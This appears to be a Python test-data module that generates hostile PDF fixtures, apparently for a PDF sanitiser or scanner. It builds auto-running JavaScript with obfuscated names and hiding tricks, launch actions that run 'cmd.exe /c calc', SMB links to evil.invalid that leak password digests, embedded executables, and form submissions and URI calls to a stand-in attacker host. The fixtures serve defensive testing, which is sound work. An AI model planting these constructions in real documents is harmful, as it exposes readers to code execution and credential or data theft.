"""PDFs that run, start, send, fetch, play or carry something, that are locked, or that ask for more than a reader has."""

from __future__ import annotations

from typing import Any

import pikepdf

from tests.data.hostile import base
from tests.data.hostile.base import EXE, PAGE, A, D, N, S, drawn_pdf, pdf, raw_pdf, raw_stream
from tests.data.hostile.entries import Family

SCRIPT = {"S": N.JavaScript, "JS": S("app.alert(1)")}
IN_OBJECT_STREAMS: dict[str, Any] = {"object_stream_mode": pikepdf.ObjectStreamMode.generate}


def opening(**action: Any) -> bytes:
    """A PDF that does this when it is opened."""
    return pdf(lambda document: document.Root.__setitem__("/OpenAction", D(**action)))


def annotated(**said: Any) -> bytes:
    """A PDF with an annotation of this kind on its page."""

    def change(document: pikepdf.Pdf) -> None:
        note = document.make_indirect(D(Type=N.Annot, Rect=[0, 0, 99, 99], **said))
        document.pages[0].obj.Annots = A([note])

    return pdf(change)


def clicked(**action: Any) -> bytes:
    return annotated(Subtype=N.Link, A=D(**action))


def rooted(key: str, make) -> bytes:
    return pdf(lambda document: document.Root.__setitem__(key, make(document)))


script = Family("pdf-script")
script.add("open.pdf", "a script when it is opened", "script", lambda: opening(**SCRIPT))
script.add("names.pdf", "a script in the list of scripts", "script", lambda: rooted("/Names", lambda _d: D(JavaScript=D(Names=A([S("x"), D(**SCRIPT)])))))
script.add("page.pdf", "a script when a page is shown", "script", lambda: pdf(lambda d: d.pages[0].obj.__setitem__("/AA", D(O=D(**SCRIPT)))))
script.add("close.pdf", "a script when it is closed", "script", lambda: rooted("/AA", lambda _d: D(WC=D(**SCRIPT))))
script.add("click.pdf", "a script behind a link", "script", lambda: clicked(**SCRIPT))
script.add("field.pdf", "a script that computes a field", "script", lambda: annotated(Subtype=N.Widget, FT=N.Tx, T=S("a"), AA=D(K=D(**SCRIPT))))
script.add("outline.pdf", "a script in the table of contents", "script", lambda: rooted("/Outlines", lambda d: D(First=d.make_indirect(D(Title=S("x"), A=D(**SCRIPT))))))
script.add("next.pdf", "a script that follows a turn of the page", "script", lambda: opening(S=N.Named, N=N.NextPage, Next=A([D(**SCRIPT)])))
script.add("rendition.pdf", "a script within a film's action", "script", lambda: clicked(S=N.Rendition, JS=S("app.alert(1)")))
script.add("stream.pdf", "a script in a stream", "script", lambda: rooted("/OpenAction", lambda d: D(S=N.JavaScript, JS=d.make_stream(b"app.alert(1)"))))
script.add("packed.pdf", "a script in an object stream", "script", lambda: pdf(lambda d: d.Root.__setitem__("/OpenAction", d.make_indirect(D(**SCRIPT))), **IN_OBJECT_STREAMS))
script.add("spelt.pdf", "a script, its name spelt /J#53", "script", lambda: opening(**SCRIPT).replace(b"/JS ", b"/J#53 ").replace(b"/JavaScript", b"/#4aavaScript"))
script.add("added.pdf", "a script that was added later", "script", lambda: _added(base.raw_pdf(*PAGE[:2], b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>")))
script.add("mended.pdf", "a script, and a table that has to be mended", "script", lambda: opening(**SCRIPT).replace(b"startxref\n", b"startxref\n9"))
script.add("unused.pdf", "a script nothing leads to", "script", lambda: raw_pdf(*PAGE[:2], b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>", b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"))


def _added(first: bytes) -> bytes:
    catalogue = b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>\nendobj\n"
    before = int(first.rpartition(b"startxref\n")[2].split()[0])
    table = b"xref\n1 1\n%010d 00000 n \ntrailer\n<< /Size 4 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
    return first + catalogue + table % (len(first), before, len(first) + len(catalogue))


launch = Family("pdf-launch")
launch.add("open.pdf", "starts a program when it is opened", "launch", lambda: opening(S=N.Launch, F=S("cmd.exe")))
launch.add("windows.pdf", "starts a program with arguments", "launch", lambda: clicked(S=N.Launch, Win=D(F=S("cmd.exe"), P=S("/c calc"))))
launch.add("packed.pdf", "the same in an object stream", "launch", lambda: pdf(lambda d: d.Root.__setitem__("/OpenAction", d.make_indirect(D(S=N.Launch, F=S("a")))), **IN_OBJECT_STREAMS))
launch.add("share.pdf", "opens a file of a Windows share: gives a password's digest away", "launch", lambda: pdf(lambda d: d.pages[0].obj.__setitem__("/AA", D(O=D(S=N.GoToE, F=S("\\\\\\\\evil.invalid\\\\x"), D=A([0, N.Fit]))))))
launch.add("remote.pdf", "turns to a page of another file", "launch", lambda: clicked(S=N.GoToR, F=S("//evil.invalid/x.pdf"), D=A([0, N.Fit])))
launch.add("import.pdf", "reads form data from a file", "launch", lambda: opening(S=N.ImportData, F=S("data.fdf")))
launch.add("outside.pdf", "a stream whose content is another file", "launch", lambda: drawn_pdf(b"/X Do", b"<< /Subtype /Form /BBox [0 0 9 9] /Length 0 /F (http://evil.invalid/x) >>\nstream\n\nendstream"))
launch.add("reference.pdf", "a page of another PDF in place of a form", "launch", lambda: drawn_pdf(b"/X Do", raw_stream(b" ", b"/Subtype /Form /BBox [0 0 9 9] /Ref << /F (other.pdf) /Page 0 >>")))

carried = Family("pdf-attachment")


def _attached(document: pikepdf.Pdf) -> Any:
    content = document.make_stream(EXE, Type=N.EmbeddedFile)
    return document.make_indirect(D(Type=N.Filespec, F=S("a.exe"), EF=D(F=content)))


carried.add("list.pdf", "a program attached", "attachment", lambda: rooted("/Names", lambda d: D(EmbeddedFiles=D(Names=A([S("a.exe"), _attached(d)])))))
carried.add("note.pdf", "a program behind a paper clip", "attachment", lambda: pdf(lambda d: d.pages[0].obj.__setitem__("/Annots", A([D(Type=N.Annot, Subtype=N.FileAttachment, Rect=[0, 0, 9, 9], FS=_attached(d))]))))
carried.add("part.pdf", "a program that belongs to a page (PDF/A-3)", "attachment", lambda: pdf(lambda d: d.pages[0].obj.__setitem__("/AF", A([_attached(d)]))))
carried.add("portfolio.pdf", "a portfolio", "attachment", lambda: pdf(lambda d: (d.Root.__setitem__("/Collection", D()), d.Root.__setitem__("/Names", D(EmbeddedFiles=D(Kids=A([D(Names=A([S("a"), _attached(d)]))])))))))
carried.add("packed.pdf", "a program, all but its content in object streams", "attachment", lambda: pdf(lambda d: d.Root.__setitem__("/Names", d.make_indirect(D(EmbeddedFiles=D(Names=A([S("a"), _attached(d)]))))), **IN_OBJECT_STREAMS))
carried.add("unlisted.pdf", "a program nothing leads to", "attachment", lambda: raw_pdf(*PAGE[:2], b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>", raw_stream(EXE, b"/Type /EmbeddedFile")))
carried.add("clip.pdf", "a paper clip to a file elsewhere", "attachment", lambda: annotated(Subtype=N.FileAttachment, FS=D(Type=N.Filespec, F=S("a.pdf"))))

calls = Family("pdf-calls")
calls.add("submit.pdf", "sends its form when it is opened", "submit", lambda: opening(S=N.SubmitForm, F=D(FS=N.URL, F=S("http://evil.invalid"))))
calls.add("button.pdf", "a button that sends the form", "submit", lambda: annotated(Subtype=N.Widget, FT=N.Btn, T=S("b"), A=D(S=N.SubmitForm, F=S("http://evil.invalid"))))
calls.add("open.pdf", "opens an address when it is opened", "calls_out", lambda: opening(S=N.URI, URI=S("http://evil.invalid")))
calls.add("page.pdf", "opens an address when a page is shown", "calls_out", lambda: pdf(lambda d: d.pages[0].obj.__setitem__("/AA", D(O=D(S=N.URI, URI=S("https://evil.invalid"))))))
calls.add("next.pdf", "opens an address after turning a page", "calls_out", lambda: opening(S=N.GoTo, D=A([0, N.Fit]), Next=D(S=N.URI, URI=S("https://evil.invalid"))))
for _number, _address in enumerate(("javascript:alert(1)", "java\nscript:alert(1)", "file:///c:/windows/system32/calc.exe", "\\\\evil.invalid\\x", "data:text/html;base64,PHNjcmlwdD4=", "vbscript:x", "ms-msdt:/id", "smb://evil.invalid/x", "file://evil.invalid/x.pdf", "calculator:", "c:\\x\\setup.bat", "//evil.invalid/x")):  # fmt: skip
    calls.add(f"link{_number}.pdf", f"a link to {_address!r}", "calls_out", lambda address=_address: clicked(S=N.URI, URI=S(address)))
calls.add("xfa.pdf", "an XFA form", "xfa", lambda: rooted("/AcroForm", lambda d: D(Fields=A([]), XFA=d.make_stream(b"<xdp:xdp><script>x</script></xdp:xdp>"))))
calls.add("xfa-parts.pdf", "an XFA form in parts", "xfa", lambda: rooted("/AcroForm", lambda d: D(Fields=A([]), XFA=A([S("template"), d.make_stream(b"<template/>")]))))
for _kind in ("RichMedia", "Movie", "Sound", "Screen", "3D"):
    calls.add(f"{_kind.lower()}.pdf", f"an annotation {_kind}", "media", lambda kind=_kind: annotated(Subtype=N(f"/{kind}")))
calls.add("plays.pdf", "plays a film when it is opened", "media", lambda: opening(S=N.Rendition, OP=0))
calls.add("runs-media.pdf", "sends a command to a rich medium", "media", lambda: opening(S=N.RichMediaExecute, CMD=D(C=S("x"))))

locked = Family("pdf-locked")
for _revision in (3, 4, 6):
    locked.add(f"user{_revision}.pdf", f"a password is needed, revision {_revision}", "encrypted", lambda r=_revision: pdf(encryption=pikepdf.Encryption(user="a", owner="b", R=r, aes=r > 3, metadata=True) if r > 3 else pikepdf.Encryption(user="a", owner="b", R=3, aes=False, metadata=False)))
locked.add("owner.pdf", "opens for everyone, printing is forbidden", "encrypted", lambda: pdf(encryption=pikepdf.Encryption(owner="b", R=6)))
locked.add("unknown.pdf", "locked by a program nobody knows", "damaged", lambda: raw_pdf(*PAGE[:2], b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>", b"<< /Filter /Strange /V 9 >>", trailer=b"/Encrypt 4 0 R /ID [<00> <00>]"))
